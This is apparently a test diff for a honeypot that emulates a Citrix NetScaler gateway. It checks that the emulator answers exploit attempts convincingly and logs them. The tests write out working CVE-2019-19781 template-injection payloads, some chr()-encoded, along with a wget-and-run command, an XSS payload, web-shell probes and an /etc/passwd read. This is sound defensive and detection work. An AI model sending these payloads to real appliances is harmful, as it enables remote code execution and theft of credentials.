@@ -110,6 +110,28 @@ describe('CVE-2019-19781', () => {
     expect(p.artifacts.kept.size).toBe(2)
   })
 
+  it.each(['rmpm', 'rmbm', 'picktheme', 'tips'])('is planted through %s.pl as well', async (script) => {
+    const p = await gateway()
+    const body = new URLSearchParams({ title: "[% template.new({'BLOCK'='print `whoami`'}) %]" }).toString()
+    await ask(p, 'POST', `/vpn/../vpns/portal/scripts/${script}.pl`, form(body, { NSC_USER: '../../../netscaler/portal/templates/t1' }))
+    expect((await ask(p, 'GET', '/vpns/portal/t1.xml', { headers: { NSC_USER: '/../x' } })).body).toMatch(/^nobody\n/)
+  })
+
+  it.each([
+    ['uname -a; id', /^FreeBSD ns\d 8\.4-NETSCALER-13\.0 [^\n]+\nuid=65534\(nobody\)/, []],
+    ['cd /tmp && uname', /^ran cd \/tmp as nobody\nFreeBSD\n/, ['cd /tmp']],
+    ['wget http://x/a && sh a', /^ran wget http:\/\/x\/a && sh a as nobody\n/, ['wget http://x/a && sh a']],
+    ["echo 'a;uname'", /^ran echo 'a;uname' as nobody\n/, ["echo 'a;uname'"]],
+  ])('answers %s as a FreeBSD, and hands on what is no business of the appliance', async (command, output, ran) => {
+    const hosts = new MemoryHosts()
+    const p = await gateway({}, hosts)
+    const letters = [...command].map((letter) => `chr(${letter.charCodeAt(0)})`).join(' . ')
+    const body = new URLSearchParams({ title: `[% template.new({'BLOCK'='print readpipe(${letters})'}) %]` }).toString()
+    await ask(p, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', form(body, { NSC_USER: '../../../netscaler/portal/templates/c' }))
+    expect((await ask(p, 'GET', '/vpn/../vpns/portal/c.xml')).body).toMatch(output)
+    expect(hosts.commands.map((asked) => asked.command)).toEqual(ran)
+  })
+
   it('gives away a configuration with secrets of this install', async () => {
     const p = await gateway()
     await ask(
@@ -215,8 +237,40 @@ describe('other holes', () => {
       (await ask(p, 'POST', '/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1', form('x')))
         .status,
     ).toBe(406)
-    expect((await ask(p, 'GET', '/menu/stc')).body).toMatch(/rand = "\d+\.\d+"/)
+    const session = await ask(p, 'GET', '/menu/ss?sid=nsroot&username=nsroot&force_setup=1')
+    expect([session.status, session.header('location'), session.head]).toEqual([
+      302,
+      '/menu/neo',
+      expect.stringMatching(/SESSID=[0-9a-f]{32};/),
+    ])
+    for (const page of ['/menu/neo', '/menu/stc']) expect((await ask(p, 'GET', page)).body).toMatch(/rand = "\d+\.\d+"/)
     expect((await ask(p, 'POST', '/rapi/filedownload?filter=path:%2Fetc%2Fpasswd', form('x'))).body).toMatch(/^root:\*:0:0:Charlie/)
+  })
+})
+
+describe('what comes after a hole', () => {
+  it('reflects a name with markup (CVE-2020-8191)', async () => {
+    const p = await gateway()
+    const { body } = await ask(p, 'POST', '/menu/stapp', form('sid=254&appname=%3C/title%3E%3Cscript%3Ealert(1)%3C/script%3E&au=1'))
+    expect(body).toContain('<title></title><script>alert(1)</script>')
+    expect((await p.seen('citrix.exploit')).tags).toEqual(['cve:CVE-2020-8191', 'attack:T1190'])
+  })
+
+  it.each([
+    '/logon/LogonPoint/uiareas/linux/ctx_sh.php',
+    '/vpn/x.php',
+    '/netscaler/logon/y.php',
+  ])('looks for a shell at %s in vain, and what it was to run is kept', async (target) => {
+    const p = await gateway()
+    expect((await ask(p, 'POST', target, form('a=system("id");'))).status).toBe(404)
+    const event = await p.seen('citrix.exploit')
+    expect([event.data, event.tags]).toEqual([{ step: 'web-shell', detail: 'a=system("id");' }, ['attack:T1505.003']])
+  })
+
+  it.each(['/saml/login', '/cgi/samlauth'])('writes down the assertion of who looks for SAML at %s', async (target) => {
+    const p = await gateway()
+    expect((await ask(p, 'POST', target, form('SAMLResponse=eA%3D%3D'))).body).toContain('SAML Assertion verification failed')
+    expect((await p.seen('citrix.exploit')).data).toEqual({ step: 'saml', detail: 'eA==' })
   })
 })
 
